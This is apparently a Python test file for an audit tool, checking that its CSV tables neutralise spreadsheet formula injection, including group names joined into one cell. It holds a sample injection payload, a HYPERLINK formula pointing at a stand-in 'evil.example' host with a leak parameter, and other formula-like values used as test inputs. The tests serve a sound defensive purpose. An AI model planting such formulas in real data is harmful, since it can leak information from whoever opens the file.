"""The audit's CSV tables never hold a live spreadsheet formula, even in a cell joined from a list.

Issue #17: ``disparities.csv`` lists the groups a measure covers in one cell, joined with ``;``.  The
neutralising check ran on each text value before the join, so a list whose first group name starts
with ``=``, ``+``, ``-`` or ``@`` became a formula once joined.
"""

from __future__ import annotations

import csv
import dataclasses
import tempfile
from pathlib import Path

import numpy as np
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from hkc.audit.file import run_file_audit
from hkc.audit.report import _write_csv
from hkc.definitions.audit_spec import AuditSpec

# What a spreadsheet runs as a formula when a cell starts with it (hkc.outputs.FORMULA_PREFIXES, restated).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'


def fast_spec() -> AuditSpec:
    spec = AuditSpec()
    return dataclasses.replace(spec, bootstrap=dataclasses.replace(spec.bootstrap, resamples=50, seed=1))


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def guarded(text: str) -> str:
    """What a safe CSV cell holding ``text`` reads: a ``'`` before text that starts like a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def test_a_joined_list_of_group_names_starting_like_a_formula_is_neutralised(tmp_path):
    # Three groups of 40, each with both outcomes and both selections: no rate is undefined, so every
    # name is listed in the disparity rows over all defined groups, sorted: "+1", the hyperlink, "b".
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"grp": np.repeat(["+1", HYPERLINK, "b"], 40), "score": rng.integers(1, 11, 120),
                          "y": np.tile([0, 1], 60)})
    source = tmp_path / "scored.csv"
    frame.to_csv(source, index=False)
    result = run_file_audit(source, score="score", threshold=5, selected=None, outcome="y", by=["grp"],
                            out=tmp_path / "audit", spec=fast_spec())

    listed = result["attributes"]["grp"]["disparities"]["groups"]
    assert listed == ["+1", HYPERLINK, "b"]
    cells = {row["groups"] for row in read_rows(tmp_path / "audit" / "disparities.csv")
             if row["scope"] == "all defined groups"}
    assert cells == {"'" + ";".join(listed)}


def test_no_cell_of_any_audit_table_starts_like_a_formula(tmp_path):
    rng = np.random.default_rng(1)
    names = ["@SUM(A1)", "-2", HYPERLINK, "x"]
    frame = pd.DataFrame({"grp": np.repeat(names, 30), "score": rng.integers(1, 11, 120), "y": np.tile([0, 1], 60)})
    source = tmp_path / "scored.csv"
    frame.to_csv(source, index=False)
    run_file_audit(source, score="score", threshold=5, selected=None, outcome="y", by=["grp"], out=tmp_path / "audit",
                   spec=fast_spec())

    tables = sorted((tmp_path / "audit").glob("*.csv"))
    assert {p.name for p in tables} >= {"groups.csv", "ratios.csv", "disparities.csv"}
    cells = [(p.name, key, value) for p in tables for row in read_rows(p) for key, value in row.items()]
    assert any(value.startswith("'-2") for _, _, value in cells)  # the group "-2" is there, guarded
    live = [cell for cell in cells if cell[2].startswith(FORMULA_STARTS) and not is_number(cell[2])]
    assert live == []  # a negative number (a difference, its interval) is a number, not a formula


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                        max_size=8), min_size=1, max_size=4))
def test_a_list_cell_reads_back_as_its_join_guarded_against_formulas(labels):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        _write_csv(path, [{"groups": labels, "text": labels[0]}])
        (row,) = read_rows(path)
    assert row["groups"] == guarded(";".join(labels))
    assert row["text"] == guarded(labels[0])
